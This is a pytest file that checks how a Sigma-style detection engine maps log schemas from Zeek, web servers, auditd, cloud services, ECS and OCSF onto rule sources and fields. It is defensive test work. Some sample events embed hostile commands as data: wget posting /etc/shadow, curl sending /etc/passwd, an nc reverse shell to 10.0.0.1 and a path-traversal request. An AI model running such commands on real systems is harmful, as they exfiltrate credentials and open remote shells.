"""Mappings of public schemas: which events they are about, in the layouts their sources write, and what names their fields get."""

import pytest

from serving.rules.errors import RuleError
from serving.rules.events import fields_of
from serving.rules.logsources import ANY_VALUE, CHANNEL, EVENT_ID, EventSource, LogSources, read_entries
from serving.rules.mappings.catalogue import entries_of, mapping_names, mapping_of
from serving.rules.matcher import compile_sigma

SAMPLES = [
    pytest.param(
        "zeek",
        {"_path": "dns", "_write_ts": "2026-11-20T10:00:01.2Z", "ts": 1795168801.1, "uid": "CHhAvV", "id.orig_h": "10.0.0.5",
         "id.orig_p": 53124, "id.resp_h": "8.8.8.8", "id.resp_p": 53, "proto": "udp", "query": "x.evil.example", "qtype_name": "TXT",
         "rejected": False, "answers": ["TXT 12 abc"]},
        "product: zeek, service: dns", "{query|endswith: .evil.example, id.resp_p: 53, rejected: false}",
        id="Zeek dns.log with json-streaming-logs",
    ),
    pytest.param(
        "zeek",
        {"_path": "dns", "id.orig_h": "10.0.0.5", "id.resp_h": "8.8.8.8", "query": "x.evil.example", "qtype_name": "TXT"},
        "category: dns", "{query: x.evil.example, record_type: TXT, dst_ip: 8.8.8.8}",
        id="Zeek dns.log is the category dns",
    ),
    pytest.param(
        "zeek",
        {"@stream": "http", "id.orig_h": "10.0.0.5", "id.resp_h": "203.0.113.9", "method": "POST", "host": "evil.example",
         "uri": "/gate.php?id=7", "user_agent": "python-requests/2.31", "status_code": 200, "request_body_len": 5120},
        "category: proxy", "{c-uri|contains: /gate.php, cs-method: POST, c-useragent|startswith: python-requests, sc-status: 200}",
        id="Zeek http.log by Logstash is the category proxy",
    ),
    pytest.param(
        "zeek",
        {"_path": "smb_files", "action": "SMB::FILE_OPEN", "path": "\\\\dc01\\C$", "name": "Windows\\Temp\\x.exe"},
        "product: zeek, service: smb_files", "{path|endswith: 'C$', name|endswith: .exe}",
        id="Zeek smb_files.log",
    ),
    pytest.param(
        "web-server",
        {"date": "2026-11-20", "time": "10:00:01", "s-ip": "10.0.0.80", "cs-method": "GET", "cs-uri-stem": "/owa/auth.aspx",
         "cs-uri-query": "x=..%2f", "s-port": "443", "c-ip": "198.51.100.7", "cs(User-Agent)": "curl/8.5.0", "cs(Referer)": "-",
         "sc-status": "200", "sc-substatus": "0", "sc-win32-status": "0", "time-taken": "31"},
        "category: webserver",
        "{cs-uri-stem|endswith: .aspx, cs-uri-query|contains: '..%2f', cs-user-agent|startswith: curl, sc-status: 200}",
        id="W3C extended log of IIS",
    ),
    pytest.param(
        "web-server",
        {"clientip": "198.51.100.7", "ident": "-", "auth": "-", "timestamp": "20/Nov/2026:10:00:01 +0000", "verb": "GET",
         "request": "/cgi-bin/test.sh?cmd=id", "httpversion": "1.1", "response": "404", "bytes": "209", "referrer": '"-"',
         "agent": '"sqlmap/1.7"'},
        "category: webserver", "{cs-method: GET, cs-uri-query|contains: cmd=id, cs-user-agent|contains: sqlmap, sc-status: 404}",
        id="combined log as Logstash's COMBINEDAPACHELOG names it",
    ),
    pytest.param(
        "web-server",
        {"host": "198.51.100.7", "user": None, "method": "GET", "path": "/../../etc/passwd", "code": 200, "size": 777, "referer": None,
         "agent": "Opera/12.0"},
        "category: webserver", "{cs-uri-query|contains: etc/passwd, sc-status: 200, c-ip: 198.51.100.7}",
        id="combined log as Fluentd's apache2 names it",
    ),
    pytest.param(
        "web-proxy",
        {"date": "2026-11-20", "time": "10:00:01", "time-taken": "90", "c-ip": "10.0.0.5", "sc-status": "200", "s-action": "TCP_NC_MISS",
         "sc-bytes": "900", "cs-bytes": "300", "cs-method": "GET", "cs-uri-scheme": "http", "cs-host": "evil.example",
         "cs-uri-path": "/a.exe", "cs-uri-query": "-", "cs-uri-extension": "exe", "cs(User-Agent)": "Microsoft BITS/7.8",
         "sc-filter-result": "OBSERVED"},
        "category: proxy", "{c-uri-extension: exe, c-useragent|startswith: Microsoft BITS, cs-host: evil.example}",
        id="ProxySG's main format",
    ),
    pytest.param(
        "linux-audit",
        {"type": "EXECVE", "msg": "audit(1795168801.123:4711)", "argc": 3, "a0": "wget", "a1": "--post-file=/etc/shadow", "a2": "x"},
        "product: linux, service: auditd", "{type: EXECVE, a0: wget, a1|startswith: --post-file=}",
        id="a record of auditd",
    ),
    pytest.param(
        "linux-sysmon",
        {"Event": {"System": {"Provider": {"#attributes": {"Name": "Linux-Sysmon"}}, "EventID": 1, "Version": 5,
                              "Channel": "Linux-Sysmon/Operational", "Computer": "web01"},
                   "EventData": {"Data": [{"#attributes": {"Name": "Image"}, "#text": "/usr/bin/base64"},
                                          {"#attributes": {"Name": "CommandLine"}, "#text": "base64 -d /tmp/a"}]}}},
        "product: linux, category: process_creation", "{Image|endswith: /base64, CommandLine|contains: ' -d '}",
        id="Sysmon for Linux",
    ),
    pytest.param(
        "linux-syslog",
        {"__REALTIME_TIMESTAMP": "1795168801123456", "_HOSTNAME": "web01", "_TRANSPORT": "syslog", "SYSLOG_IDENTIFIER": "sshd",
         "_COMM": "sshd", "PRIORITY": "4", "MESSAGE": "error in libcrypto"},
        "product: linux, service: sshd", "['error in libcrypto']",
        id="journald's JSON",
    ),
    pytest.param(
        "linux-syslog",
        {"timereported": "2026-11-20T10:00:01+00:00", "hostname": "web01", "programname": "vsftpd", "syslogtag": "vsftpd[81]:",
         "msg": "Connection refused: tcp_wrappers denial."},
        "product: linux, service: vsftpd", "['Connection refused: tcp_wrappers denial.']",
        id="rsyslog's properties",
    ),
    pytest.param(
        "aws-cloudtrail",
        {"eventVersion": "1.10", "userIdentity": {"type": "Root", "arn": "arn:aws:iam::111122223333:root"},
         "eventTime": "2026-11-20T10:00:01Z", "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "awsRegion": "us-east-1",
         "sourceIPAddress": "198.51.100.7", "userAgent": "Mozilla/5.0", "requestParameters": None,
         "responseElements": {"ConsoleLogin": "Success"}, "additionalEventData": {"MFAUsed": "No"}, "eventType": "AwsConsoleSignIn"},
        "product: aws, service: cloudtrail",
        "{eventName: ConsoleLogin, additionalEventData.MFAUsed: 'NO', userIdentity.type: Root, responseElements.ConsoleLogin: Success}",
        id="a CloudTrail record",
    ),
    pytest.param(
        "aws-cloudtrail",
        {"version": "0", "source": "aws.iam", "detail-type": "AWS API Call via CloudTrail",
         "detail": {"eventVersion": "1.10", "eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey"}},
        "product: aws, service: cloudtrail", "{eventSource: iam.amazonaws.com, eventName: CreateAccessKey}",
        id="a CloudTrail record within EventBridge's",
    ),
    pytest.param(
        "azure",
        {"time": "2026-11-20T10:00:01Z", "resourceId": "/SUBSCRIPTIONS/1/RESOURCEGROUPS/A/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/V",
         "operationName": "MICROSOFT.KEYVAULT/VAULTS/DELETE", "category": "Administrative", "resultType": "Success",
         "callerIpAddress": "198.51.100.7", "identity": {"claims": {}}, "level": "Information", "properties": {}},
        "product: azure, service: activitylogs", "{operationName: MICROSOFT.KEYVAULT/VAULTS/DELETE, CategoryValue: Administrative}",
        id="Azure's activity log from an event hub",
    ),
    pytest.param(
        "azure",
        {"TimeGenerated": "2026-11-20T10:00:01Z", "Type": "SigninLogs", "ResultType": "50053", "ResultDescription": "locked",
         "AuthenticationRequirement": "singleFactorAuthentication", "ConditionalAccessStatus": "success", "UserAgent": "azurehound/1.2"},
        "product: azure, service: signinlogs", "{ResultType: 50053, conditionalAccessStatus: success, userAgent|contains: azurehound}",
        id="sign-ins of Log Analytics",
    ),
    pytest.param(
        "azure",
        {"time": "2026-11-20T10:00:01Z", "category": "SignInLogs", "operationName": "Sign-in activity", "resultType": "50057",
         "resultDescription": "User account is disabled.", "properties": {"authenticationRequirement": "singleFactorAuthentication",
                                                                         "deviceDetail": {"isCompliant": False}}},
        "product: azure, service: signinlogs", "{ResultType: 50057, DeviceDetail.isCompliant: 'false'}",
        id="sign-ins from an event hub",
    ),
    pytest.param(
        "azure",
        {"time": "2026-11-20T10:00:01Z", "category": "AuditLogs", "operationName": "Add member to role", "resultType": "",
         "properties": {"activityDisplayName": "Add member to role", "category": "RoleManagement", "result": "success",
                        "loggedByService": "Core Directory", "targetResources": [{"type": "Role", "displayName": "Global Administrator"}]}},
        "product: azure, service: auditlogs",
        "{properties.message: Add member to role, Category: RoleManagement, properties.targetResources|contains: Administrator}",
        id="Entra's audit log from an event hub",
    ),
    pytest.param(
        "azure",
        {"time": "11/20/2026 10:00:01 AM", "category": "UserRiskEvents", "operationName": "User Risk Detection",
         "properties": {"riskEventType": "anonymizedIPAddress", "riskLevel": "high"}},
        "product: azure, service: riskdetection", "{riskEventType: anonymizedIPAddress}",
        id="risk detections from an event hub",
    ),
    pytest.param(
        "okta",
        {"uuid": "a1", "published": "2026-11-20T10:00:01.000Z", "eventType": "user.mfa.factor.deactivate", "legacyEventType": "core.x",
         "displayMessage": "Reset factor for user", "actor": {"id": "00u1", "alternateId": "eve@example.com"},
         "outcome": {"result": "SUCCESS"}, "securityContext": {"isProxy": True}, "target": [{"displayName": "Bob"}]},
        "product: okta, service: okta",
        "{eventType: user.mfa.factor.deactivate, securityContext.isProxy: 'true', actor.alternateId: eve@example.com}",
        id="Okta's System Log",
    ),
    pytest.param(
        "ecs",
        {"@timestamp": "2026-11-20T10:00:01Z", "event": {"category": ["process"], "type": ["start"]}, "host": {"os": {"type": "linux"}},
         "process": {"executable": "/usr/bin/curl", "command_line": "curl -d @/etc/passwd http://x",
                     "parent": {"executable": "/usr/sbin/apache2"}}, "user": {"name": "www-data"}},
        "product: linux, category: process_creation", "{Image|endswith: /curl, ParentImage|endswith: /apache2, User: www-data}",
        id="ECS: a process on Linux",
    ),
    pytest.param(
        "ecs",
        {"event": {"category": ["process"], "type": ["start"]}, "host": {"os": {"type": "macos"}},
         "process": {"executable": "/usr/bin/osascript", "command_line": "osascript -e x"}},
        "product: macos, category: process_creation", "{Image|endswith: /osascript, CommandLine|contains: ' -e '}",
        id="ECS: a process on macOS",
    ),
    pytest.param(
        "ecs",
        {"event": {"dataset": "nginx.access", "category": ["web"], "type": ["access"]}, "http": {"request": {"method": "GET"},
         "response": {"status_code": 200}}, "url": {"original": "/a?cmd=id", "path": "/a", "query": "cmd=id"},
         "user_agent": {"original": "curl/8"}},
        "category: webserver", "{cs-method: GET, cs-uri-query|contains: cmd=id, cs-uri-stem: /a, sc-status: 200}",
        id="ECS: nginx by Filebeat",
    ),
    pytest.param(
        "ecs",
        {"event": {"module": "auditd", "dataset": "auditd.log", "action": "execve"},
         "auditd": {"log": {"record_type": "EXECVE", "a0": "chattr", "a1": "-i"}}},
        "product: linux, service: auditd", "{type: EXECVE, a0|contains: chattr, a1|contains: '-i'}",
        id="ECS: auditd by Filebeat",
    ),
    pytest.param(
        "ecs",
        {"event": {"dataset": "aws.cloudtrail", "provider": "iam.amazonaws.com", "action": "DeleteRole"},
         "aws": {"cloudtrail": {"error_code": "AccessDenied", "user_identity": {"type": "IAMUser"}}}},
        "product: aws, service: cloudtrail", "{eventSource: iam.amazonaws.com, errorCode: AccessDenied, userIdentity.type: IAMUser}",
        id="ECS: CloudTrail by Filebeat",
    ),
    pytest.param(
        "ecs",
        {"event": {"dataset": "azure.signinlogs"},
         "azure": {"signinlogs": {"result_type": "50140", "properties": {"risk_state": "atRisk"}}}},
        "product: azure, service: signinlogs", "{ResultType: 50140, RiskState: atRisk}",
        id="ECS: Azure by Filebeat",
    ),
    pytest.param(
        "ecs",
        {"event": {"dataset": "okta.system"}, "okta": {"event_type": "zone.delete", "security_context": {"is_proxy": True}}},
        "product: okta, service: okta", "{eventType: zone.delete, securityContext.isProxy: 'true'}",
        id="ECS: Okta by Filebeat",
    ),
    pytest.param(
        "ecs",
        {"event": {"dataset": "zeek.dce_rpc"}, "zeek": {"dce_rpc": {"operation": "DrsGetNCChanges", "endpoint": "drsuapi"}}},
        "product: zeek, service: dce_rpc", "{operation: DrsGetNCChanges, endpoint: drsuapi}",
        id="ECS: Zeek by Filebeat",
    ),
    pytest.param(
        "ocsf",
        {"class_uid": 1007, "activity_id": 1, "type_uid": 100701, "device": {"os": {"type_id": 200, "name": "Linux"}},
         "process": {"name": "nc", "file": {"path": "/usr/bin/nc"}, "cmd_line": "nc -e /bin/sh 10.0.0.1 4444"},
         "actor": {"process": {"file": {"path": "/bin/bash"}}, "user": {"name": "bob"}}},
        "product: linux, category: process_creation", "{Image|endswith: /nc, ParentImage|endswith: /bash, CommandLine|contains: ' -e '}",
        id="OCSF: a process on Linux",
    ),
    pytest.param(
        "ocsf",
        {"class_uid": 1007, "activity_id": 1, "device": {"os": {"type_id": 100}}, "process": {"file": {"path": "C:\\Windows\\cmd.exe"},
         "cmd_line": "cmd /c whoami"}},
        "product: windows, category: process_creation", "{Image|endswith: '\\cmd.exe', CommandLine|contains: whoami}",
        id="OCSF: a process on Windows",
    ),
    pytest.param(
        "ocsf",
        {"class_uid": 4002, "http_request": {"http_method": "POST", "user_agent": "x", "url": {"url_string": "http://h/a.php?b=1",
         "path": "/a.php", "query_string": "b=1", "hostname": "h"}}, "http_response": {"code": 200}},
        "category: webserver", "{cs-method: POST, cs-uri-stem: /a.php, cs-uri-query: b=1, sc-status: 200, cs-host: h}",
        id="OCSF: HTTP Activity",
    ),
    pytest.param(
        "ocsf",
        {"class_uid": 6003, "metadata": {"product": {"name": "CloudTrail"}}, "api": {"operation": "PutBucketPolicy",
         "service": {"name": "s3.amazonaws.com"}, "response": {"error": "AccessDenied"}}},
        "product: aws, service: cloudtrail", "{eventName: PutBucketPolicy, eventSource: s3.amazonaws.com, errorCode: AccessDenied}",
        id="OCSF: CloudTrail in Security Lake",
    ),
]  # fmt: skip


@pytest.fixture(scope="module")
def of_all():
    """The sources of all mappings at once."""
    return LogSources(entries_of(mapping_names()))


def matcher(source, selection, entries):
    rule = f"title: t\nlevel: high\nlogsource: {{{source}}}\ndetection: {{s: {selection}, condition: s}}\n"
    compiled = compile_sigma([("r.yml", rule)], sources=LogSources(entries))
    assert not compiled.unsupported, compiled.unsupported
    return compiled


@pytest.mark.parametrize(("mapping", "event", "source", "selection"), SAMPLES)
def test_an_event_of_the_source_is_matched(mapping, event, source, selection):
    compiled = matcher(source, selection, entries_of([mapping]))
    assert compiled.match(fields_of(event))
    assert not compiled.unreached


@pytest.mark.parametrize(("mapping", "event", "source", "selection"), SAMPLES)
def test_without_the_mapping_it_is_not(mapping, event, source, selection):
    assert not matcher(source, selection, []).match(fields_of(event))


@pytest.mark.parametrize(("mapping", "event", "source", "selection"), SAMPLES)
def test_an_event_is_of_no_source_of_another_mapping(of_all, mapping, event, source, selection):
    """With all mappings at once an event has the product of its own, and no other."""
    product = dict(part.split(": ") for part in source.split(", ")).get("product")
    found = of_all.of(fields_of(event))
    assert set(found.products) == {product} or (product is None and set(found.products) <= {"zeek"})


def test_each_mapping_says_where_its_names_come_from():
    for name in mapping_names():
        mapping = mapping_of(name)
        assert mapping.schema, name
        assert all(link.startswith("https://") for link in mapping.schema)
        assert mapping.title
        assert mapping.about


def test_each_mapping_has_a_sample():
    assert {sample.values[0] for sample in SAMPLES} == set(mapping_names())


def test_a_source_that_there_is_not_is_refused_with_those_that_there_are():
    with pytest.raises(RuleError, match=r"no mapping of a source 'syslog'.*'linux-syslog'"):
        entries_of(["syslog"])


def test_the_first_of_several_names_that_is_there_counts():
    entries = read_entries([{"when": {"kind": ANY_VALUE}, "product": "p", "fields": {"Image": ["exe", "path"]}}])
    fields = fields_of({"kind": "x", "path": "/b", "exe": "/a"})
    assert LogSources(entries).of(fields) == EventSource(("p",))
    assert fields["Image"] == "/a"


@pytest.mark.parametrize("name", [CHANNEL, EVENT_ID])
def test_channels_and_ids_are_named(name):
    with pytest.raises(RuleError, match="name the channels"):
        read_entries([{"when": {name: "*"}, "product": "p"}])


def test_sysmon_for_linux_is_no_windows():
    sources = LogSources(entries_of(["linux-sysmon"]))
    fields = fields_of({"Channel": "Linux-Sysmon/Operational", "EventID": 11, "TargetFilename": "/etc/cron.d/x"})
    assert sources.of(fields) == EventSource(("linux",), ("file_event",), ("sysmon",))
